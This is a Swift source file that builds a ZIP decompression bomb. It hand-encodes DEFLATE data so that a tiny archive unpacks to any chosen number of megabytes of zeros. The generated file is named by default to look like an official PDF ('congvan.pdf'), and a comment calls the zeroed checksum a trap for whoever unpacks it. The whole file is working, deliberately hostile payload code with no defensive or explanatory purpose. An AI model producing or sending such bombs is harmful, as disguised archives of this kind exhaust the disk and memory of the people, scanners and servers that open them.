/// A ZIP of one file that is nothing but zeros: small to send, huge to unpack.
enum ZipBomb {
    /// A bomb that becomes so many megabytes.
    static func make(megabytes: Int, name: String = "congvan.pdf") -> [UInt8] {
        let matches = megabytes * 1_048_576 / 258
        let size = 1 + matches * 258
        let content = deflated(matches: matches)
        let file = Array(name.utf8)
        // The checksum is left 0: whoever unpacks to the end to find that out has lost already.
        let common =
            le(20, 2) + le(0, 2) + le(8, 2) + le(0, 4) + le(0, 4) + le(content.count, 4) + le(size, 4)
            + le(file.count, 2)
        let local = Array("PK".utf8) + [3, 4] + common + le(0, 2) + file + content
        let directory =
            Array("PK".utf8) + [1, 2] + le(20, 2) + common + le(0, 2) + le(0, 2) + le(0, 2) + le(0, 2) + le(0, 4)
            + le(0, 4) + file
        return local + directory + Array("PK".utf8) + [5, 6] + le(0, 4) + le(1, 2) + le(1, 2) + le(directory.count, 4)
            + le(local.count, 4) + le(0, 2)
    }

    /// A zero and so many repetitions of 258 zeros, in the fixed code of RFC 1951, section 3.2.6.
    private static func deflated(matches: Int) -> [UInt8] {
        var bits = Bits()
        bits.put(0b011, 3)  // the last block, fixed code (bits in the order they are sent: 1, then 10)
        bits.putCode(0b0011_0000, 8)  // the literal 0
        for _ in 0..<matches {
            bits.putCode(0b1100_0101, 8)  // length 258
            bits.putCode(0, 5)  // distance 1
        }
        bits.putCode(0, 7)  // the end
        return bits.finished
    }

    private static func le(_ number: Int, _ bytes: Int) -> [UInt8] {
        (0..<bytes).map { UInt8(number >> (8 * $0) & 0xFF) }
    }

    /// Bits, the first of which is the lowest of the first byte.
    private struct Bits {
        private var bytes: [UInt8] = []
        private var held = 0
        private var count = 0

        mutating func put(_ value: Int, _ width: Int) {
            held |= value << count
            count += width
            while count >= 8 {
                bytes.append(UInt8(held & 0xFF))
                held >>= 8
                count -= 8
            }
        }

        /// Huffman codes are sent from their highest bit.
        mutating func putCode(_ code: Int, _ width: Int) {
            for bit in (0..<width).reversed() { put(code >> bit & 1, 1) }
        }

        var finished: [UInt8] { count > 0 ? bytes + [UInt8(held & 0xFF)] : bytes }
    }
}
